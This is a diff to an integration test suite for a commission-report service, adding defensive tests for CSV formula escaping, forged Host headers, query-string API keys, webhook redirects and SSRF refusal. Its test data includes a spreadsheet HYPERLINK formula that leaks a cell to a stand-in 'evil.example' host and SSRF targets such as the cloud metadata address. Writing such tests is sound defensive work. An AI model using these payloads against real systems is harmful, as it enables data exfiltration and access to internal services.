@@ -2,6 +2,7 @@ import { PutObjectCommand } from '@aws-sdk/client-s3';
 import { parse as parseLossless } from 'lossless-json';
 import { randomUUID } from 'node:crypto';
 import { readFileSync } from 'node:fs';
+import { request as httpRequest } from 'node:http';
 import { join } from 'node:path';
 import { pathToFileURL } from 'node:url';
 import type { KafkaMessage } from 'kafkajs';
@@ -57,6 +58,11 @@ let month: GeneratedMonth;
 let lake: LakeSql;
 /** The independent computation: the report's rows, cell by cell, from DuckDB. */
 let expected: string[][];
+/**
+ * The same rows as a CSV file must hold them: text cells (agent_id, currency) that begin
+ * with =, +, -, @, tab or CR carry a leading single quote (DOMAIN.md "Report"); numbers never.
+ */
+let expectedCsv: string[][];
 
 beforeAll(async () => {
   await requireServer('Kafka', settings.kafka.brokers[0]!);
@@ -75,6 +81,7 @@ beforeAll(async () => {
   await exportUntilCommitted(kafka, lakeExport);
   lake = await LakeSql.download(settings, lakePrefix);
   expected = await lake.report(MONTH);
+  expectedCsv = expected.map((r) => r.map((cell, column) => ((column === 0 || column === 9) && /^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell)));
 }, 150_000);
 
 /**
@@ -156,6 +163,29 @@ async function api(i: Instance, method: 'GET' | 'POST', path: string, options: {
   return { status: res.status, body: parsed };
 }
 
+/** POST /reports/generate with a Host (and X-Forwarded-Host) header of our choosing, which fetch does not let us set. */
+async function postWithHost(i: Instance, host: string, body: unknown): Promise<ApiAnswer> {
+  const payload = JSON.stringify(body);
+  return new Promise((resolve, reject) => {
+    const req = httpRequest(
+      {
+        host: '127.0.0.1',
+        port: i.reports.port,
+        method: 'POST',
+        path: '/reports/generate',
+        headers: { host, 'x-forwarded-host': host, 'x-forwarded-proto': 'https', 'x-api-key': API_KEY, 'content-type': 'application/json', 'content-length': Buffer.byteLength(payload) },
+      },
+      (res) => {
+        let text = '';
+        res.on('data', (c: Buffer) => (text += c.toString('utf8')));
+        res.on('end', () => resolve({ status: res.statusCode ?? 0, body: JSON.parse(text) }));
+      },
+    );
+    req.once('error', reject);
+    req.end(payload);
+  });
+}
+
 /** Polls GET /reports/{id} (as a client would) until succeeded or failed; a failure throws with its reason. */
 async function finalState(i: Instance, id: string, timeoutMs = 60_000): Promise<any> {
   const answer = await eventually(
@@ -234,7 +264,11 @@ describe('reports: commission reports from the lake, by topic and REST, with lin
     const i = await startInstance('csv');
     const id = `csv-${run}`;
     const accepted = await generate(i, { request_id: id, format: 'csv' });
-    expect(accepted.body).toEqual({ request_id: id, state: 'queued', status_url: `${i.reports.url}/reports/${id}` });
+    // No SLUICE_REPORTS_PUBLIC_URL: the status URL is relative, whatever Host the client sent.
+    expect(accepted.body).toEqual({ request_id: id, state: 'queued', status_url: `/reports/${id}` });
+    const forged = await postWithHost(i, 'attacker.example:666', { request_id: id, report_type: 'agent_commissions', month: MONTH, format: 'csv' });
+    expect(forged.status).toBe(202);
+    expect(forged.body.status_url).toBe(`/reports/${id}`);
 
     const status = await finalState(i, id);
     expect(status.result).toMatchObject({ rows: expected.length, format: 'csv', rules_version: RULES_VERSION });
@@ -244,7 +278,7 @@ describe('reports: commission reports from the lake, by topic and REST, with lin
     expect(file.contentType).toMatch(/^text\/csv/);
     const [header, ...rows] = parseCsv(file.text);
     expect(header).toEqual(REPORT_HEADER);
-    expect(rows).toEqual(expected);
+    expect(rows).toEqual(expectedCsv);
 
     // The hand-computed agents, in the file itself.
     for (const [agent, cells] of Object.entries(HAND_COMPUTED)) {
@@ -256,6 +290,10 @@ describe('reports: commission reports from the lake, by topic and REST, with lin
     expect(order.indexOf(SPECIAL.upper)).toBeLessThan(order.indexOf('agent-00'));
     expect(order.indexOf(SPECIAL.fullwidth)).toBeLessThan(order.indexOf(SPECIAL.astral));
     expect(order).toContain(SPECIAL.csvQuoted);
+    // A formula as agent id is text in a spreadsheet: a leading quote inside a quoted field; a negative net inflow stays a plain number.
+    const lines = file.text.split('\n');
+    expect(lines).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",${MONTH},1,0,1500,0,0,1500,8,USD`);
+    expect(lines.find((l) => l.startsWith(`${SPECIAL.withdrawalsExceed},`))).toBe(`${SPECIAL.withdrawalsExceed},${MONTH},3,0,50000,80000,10000,-20000,100,USD`);
   });
 
   it('agent_ids limits the report to those agents, with the same cells', async () => {
@@ -284,7 +322,7 @@ describe('reports: commission reports from the lake, by topic and REST, with lin
     expect(status.result.rows).toBe(expected.length);
     const [header, ...rows] = parseCsv((await download(status.download.url)).text);
     expect(header).toEqual(REPORT_HEADER);
-    expect(rows).toEqual(expected);
+    expect(rows).toEqual(expectedCsv);
   }, 90_000);
 
   it('JSON: the same rows (exact beyond 2^53), the request and metadata with rules_version; a repeat is answered from the result', async () => {
@@ -326,7 +364,7 @@ describe('reports: commission reports from the lake, by topic and REST, with lin
     expect(a.status).toBe(200);
     expect(b.status).toBe(200);
     expect(Buffer.from(a.text).equals(Buffer.from(b.text)), 'same bytes').toBe(true);
-    expect(parseCsv(a.text).slice(1)).toEqual(expected);
+    expect(parseCsv(a.text).slice(1)).toEqual(expectedCsv);
 
     // Repeat both ids: by topic (the processor answers from the result) and by REST (the shim answers the known state).
     await publishRequest(i, byTopic, JSON.stringify({ request_id: byTopic, report_type: 'agent_commissions', month: MONTH }));
@@ -346,6 +384,15 @@ describe('reports: commission reports from the lake, by topic and REST, with lin
     expect(again.text).toBe(a.text);
   });
 
+  it('status_url comes from SLUICE_REPORTS_PUBLIC_URL, never from a forged Host header', async () => {
+    const i = await startInstance('public-url', { SLUICE_REPORTS_PUBLIC_URL: 'https://reports.example.com/sluice/' });
+    const id = `public-url-${run}`;
+    const answer = await postWithHost(i, 'attacker.example', { request_id: id, report_type: 'agent_commissions', month: MONTH });
+    expect(answer.status).toBe(202);
+    expect(answer.body.status_url).toBe(`https://reports.example.com/sluice/reports/${id}`);
+    expect(JSON.stringify(answer.body)).not.toContain('attacker');
+  });
+
   it('the download link works with plain fetch and stops working after SLUICE_REPORTS_LINK_EXPIRY_SECONDS', async () => {
     const i = await startInstance('expiry', { SLUICE_REPORTS_LINK_EXPIRY_SECONDS: '2' });
     const id = `expiry-${run}`;
@@ -358,7 +405,7 @@ describe('reports: commission reports from the lake, by topic and REST, with lin
     expect(new URL(status.download.url).searchParams.get('X-Amz-Expires')).toBe('2');
     const fresh = await download(status.download.url);
     expect(fresh.status, fresh.text).toBe(200);
-    expect(parseCsv(fresh.text).slice(1)).toEqual(expected);
+    expect(parseCsv(fresh.text).slice(1)).toEqual(expectedCsv);
     await new Promise((r) => setTimeout(r, expiresAt - Date.now() + 1500));
     const expired = await download(status.download.url);
     expect(expired.status, `an expired link must be refused, got: ${expired.text.slice(0, 300)}`).toBe(403);
@@ -369,6 +416,12 @@ describe('reports: commission reports from the lake, by topic and REST, with lin
     expect((await api(i, 'POST', '/reports/generate', { body: { report_type: 'agent_commissions', month: MONTH }, key: null })).status).toBe(401);
     expect((await api(i, 'POST', '/reports/generate', { body: { report_type: 'agent_commissions', month: MONTH }, key: 'wrong-key-wrong-key-wrong' })).status).toBe(401);
     expect((await api(i, 'GET', `/reports/anything`, { key: null })).status).toBe(401);
+    // A key in the query string is refused even beside the right one in the header.
+    for (const path of [`/reports/anything?api_key=${API_KEY}`, `/reports/generate?apikey=${API_KEY}`]) {
+      const inQuery = await api(i, path.includes('generate') ? 'POST' : 'GET', path, path.includes('generate') ? { body: { report_type: 'agent_commissions', month: MONTH } } : {});
+      expect(inQuery.status, path).toBe(400);
+      expect(inQuery.body.message).toContain('X-API-Key header');
+    }
 
     const bad = await api(i, 'POST', '/reports/generate', {
       body: { report_type: 'weekly_summary', month: '2026-13', format: 'pdf', agent_ids: [], notify: { email: 'not-an-address', webhook: 'ftp://example.com/x' }, colour: 'red' },
@@ -412,7 +465,7 @@ describe('reports: commission reports from the lake, by topic and REST, with lin
     }
     const monthError = readDeadLetterHeaders(deadLetters.find((d) => d.value?.toString() === malformed[1]!.value)!.headers)!.error;
     expect(monthError).toContain('month');
-    expect(parseCsv((await download((await finalState(i, after)).download.url)).text).slice(1)).toEqual(expected);
+    expect(parseCsv((await download((await finalState(i, after)).download.url)).text).slice(1)).toEqual(expectedCsv);
     expect(i.reports.store.get(`bad-month-${run}`)).toBeUndefined();
 
     // A request that cannot be computed (a month whose lake holds an object that is not Parquet) ends as failed, with a reason.
@@ -439,7 +492,13 @@ describe('reports: commission reports from the lake, by topic and REST, with lin
     const smtp = await startSmtpCapture();
     const hook = await startWebhookCapture(`/services/T000/B000/secret-${run}`);
     try {
-      const i = await startInstance('notify', { SLUICE_REPORTS_SMTP_URL: smtp.url, SLUICE_REPORTS_MAIL_FROM: 'Sluice reports <reports@sluice.test>' });
+      // The receivers run on this machine: allowed by host and by network, as an internal receiver must be.
+      const i = await startInstance('notify', {
+        SLUICE_REPORTS_SMTP_URL: smtp.url,
+        SLUICE_REPORTS_MAIL_FROM: 'Sluice reports <reports@sluice.test>',
+        SLUICE_REPORTS_WEBHOOK_ALLOWED_HOSTS: '127.0.0.1',
+        SLUICE_REPORTS_WEBHOOK_ALLOWED_NETWORKS: '127.0.0.1/32',
+      });
       const id = `notify-${run}`;
       await generate(i, { request_id: id, notify: { email: ['finance@example.com', 'ops@example.com'], webhook: hook.url } });
       const status = await finalState(i, id);
@@ -460,7 +519,7 @@ describe('reports: commission reports from the lake, by topic and REST, with lin
       expect(mail.text).not.toContain('agent_id,month');
       const viaMail = await download(mailLink!);
       expect(viaMail.status, viaMail.text).toBe(200);
-      expect(parseCsv(viaMail.text).slice(1)).toEqual(expected);
+      expect(parseCsv(viaMail.text).slice(1)).toEqual(expectedCsv);
 
       expect(hook.calls).toHaveLength(1);
       const call = hook.calls[0]!;
@@ -473,18 +532,76 @@ describe('reports: commission reports from the lake, by topic and REST, with lin
       const viaHook = await download(hookLink!);
       expect(viaHook.status, viaHook.text).toBe(200);
       expect(viaHook.text).toBe(viaMail.text);
-      expect(JSON.stringify(i.reports.store.get(id)?.notifications)).not.toContain(`secret-${run}`);
+      // The webhook URL (its path is the secret) is shown by its origin only: in GET, on report-status, in the notifications.
+      expect(status.request.notify).toEqual({ email: ['finance@example.com', 'ops@example.com'], webhook: `${new URL(hook.url).origin}/…` });
+      expect(JSON.stringify(status)).not.toContain(`secret-${run}`);
+      const published = await statesOnTopic(i, id, (states) => states.some((x) => x.state === 'succeeded'));
+      expect(published.map((x) => x.state)).toEqual(expect.arrayContaining(['queued', 'running', 'succeeded']));
+      for (const state of published) expect(JSON.stringify(state), state.state).not.toContain(`secret-${run}`);
 
       // A target that cannot be reached does not fail the report: the outcome says why.
       const unreachable = `notify-unreachable-${run}`;
       await generate(i, { request_id: unreachable, notify: { webhook: 'http://127.0.0.1:1/hook' } });
       const done = await finalState(i, unreachable);
-      expect(done.notifications).toEqual([{ channel: 'webhook', target: 'http://127.0.0.1:1/…', ok: false, error: expect.any(String) }]);
+      expect(done.notifications).toEqual([{ channel: 'webhook', target: 'http://127.0.0.1:1/…', ok: false, error: 'connection failed: ECONNREFUSED' }]);
       expect(smtp.mails).toHaveLength(1);
+
+      // A redirect is not followed (its target gets nothing); an answer's body is never stored or returned.
+      const inside = await startWebhookCapture(`/inside-${run}`);
+      const redirecting = await startWebhookCapture('/hook', { status: 307, headers: { location: inside.url }, body: 'moved' });
+      const failing = await startWebhookCapture('/hook', { status: 500, body: `internal-answer-${run}` });
+      try {
+        const redirected = `notify-redirect-${run}`;
+        await generate(i, { request_id: redirected, month: '2026-12', notify: { webhook: redirecting.url } });
+        expect((await finalState(i, redirected)).notifications).toEqual([{ channel: 'webhook', target: `${new URL(redirecting.url).origin}/…`, ok: false, error: 'answered 307: redirects are not followed' }]);
+        expect(redirecting.calls).toHaveLength(1);
+        expect(inside.calls).toHaveLength(0);
+        const answered = `notify-answer-${run}`;
+        await generate(i, { request_id: answered, month: '2026-12', notify: { webhook: failing.url } });
+        const withAnswer = await finalState(i, answered);
+        expect(withAnswer.notifications).toEqual([{ channel: 'webhook', target: `${new URL(failing.url).origin}/…`, ok: false, error: 'answered 500' }]);
+        expect(failing.calls).toHaveLength(1);
+        expect(JSON.stringify(withAnswer)).not.toContain(`internal-answer-${run}`);
+        expect(JSON.stringify(i.reports.store.get(answered))).not.toContain(`internal-answer-${run}`);
+      } finally {
+        await Promise.all([inside.close(), redirecting.close(), failing.close()]);
+      }
     } finally {
       await smtp.close();
       await hook.close();
     }
+  });
+
+  it('webhooks: none without an allow list; an SSRF attempt at the Kafka Connect REST port is refused and Connect receives nothing', async () => {
+    const connect = new URL(settings.connect.url);
+    const connectLog = join(process.env.SLUICE_STATE_DIR ?? join(ROOT, '.sluice'), 'logs', 'connect.log');
+    const logged = (marker: string) => readFileSync(connectLog, 'utf8').includes(marker);
+    // Connect logs every REST request it receives (its request log): a control request shows up there.
+    await fetch(`${connect.origin}/connectors?sluice-ssrf-control=${run}`);
+    await eventually(async () => (logged(`sluice-ssrf-control=${run}`) ? true : undefined), 10_000, 'the control request in the Kafka Connect request log');
+
+    // The default: no webhook hosts at all. The shim refuses at once; a request by topic gets a refused outcome.
+    const closed = await startInstance('webhooks-default');
+    const refused = await api(closed, 'POST', '/reports/generate', { body: { report_type: 'agent_commissions', month: '2026-12', notify: { webhook: 'https://hooks.slack.com/services/T/B/x' } } });
+    expect(refused.status).toBe(400);
+    expect(refused.body.errors).toEqual([expect.objectContaining({ field: 'notify.webhook', code: 'not_allowed' })]);
+    const byTopic = `ssrf-default-${run}`;
+    const ssrfUrl = `http://127.0.0.1:${connect.port}/connectors?sluice-ssrf=${run}`;
+    await publishRequest(closed, byTopic, JSON.stringify({ request_id: byTopic, report_type: 'agent_commissions', month: '2026-12', notify: { webhook: ssrfUrl } }));
+    expect((await finalState(closed, byTopic)).notifications).toEqual([{ channel: 'webhook', target: `http://127.0.0.1:${connect.port}/…`, ok: false, error: 'refused: the host is not on the allow list' }]);
+
+    // Even with the host listed, a loopback, private or link-local address is refused unless its network is allowed.
+    const listed = await startInstance('webhooks-listed', { SLUICE_REPORTS_WEBHOOK_ALLOWED_HOSTS: `127.0.0.1,localhost,169.254.169.254,::ffff:127.0.0.1` });
+    const targets = [ssrfUrl, ssrfUrl.replace('127.0.0.1', 'localhost'), ssrfUrl.replace('127.0.0.1', '[::ffff:127.0.0.1]'), 'http://169.254.169.254/latest/meta-data/'];
+    for (const [n, webhook] of targets.entries()) {
+      const id = `ssrf-${n}-${run}`;
+      await generate(listed, { request_id: id, month: '2026-12', notify: { webhook } });
+      const done = await finalState(listed, id);
+      expect(done.notifications, webhook).toEqual([{ channel: 'webhook', target: expect.stringMatching(/\/…$/), ok: false, error: 'refused: the host resolves to a private, loopback, link-local or reserved address' }]);
+      expect(JSON.stringify(done)).not.toContain(`sluice-ssrf=${run}`);
+    }
+    // Connect never saw any of them (the control request proves its log records what it receives).
+    expect(logged(`sluice-ssrf=${run}`), 'a forged webhook call in the Kafka Connect request log').toBe(false);
   });
 
   it('schedule: runSchedule on 1 November requests 2026-10 as scheduled-agent_commissions-2026-10; a second call is answered from its result', async () => {
@@ -495,7 +612,7 @@ describe('reports: commission reports from the lake, by topic and REST, with lin
     expect(status.request).toMatchObject({ month: '2026-10', report_type: 'agent_commissions', format: 'csv', requested_via: 'schedule' });
     expect(decodeURIComponent(new URL(status.download.url).pathname)).toBe(`/${settings.s3.bucket}/${i.reportsPrefix}agent_commissions/month=2026-10/${id}.csv`);
     const file = await download(status.download.url);
-    expect(parseCsv(file.text).slice(1)).toEqual(expected);
+    expect(parseCsv(file.text).slice(1)).toEqual(expectedCsv);
 
     expect(await i.reports.runSchedule(new Date('2026-11-01T06:00:00Z'))).toBe(id);
     const repeated = await i.reports.store.waitFor(id, (s) => s.from_earlier_result === true, 30_000);
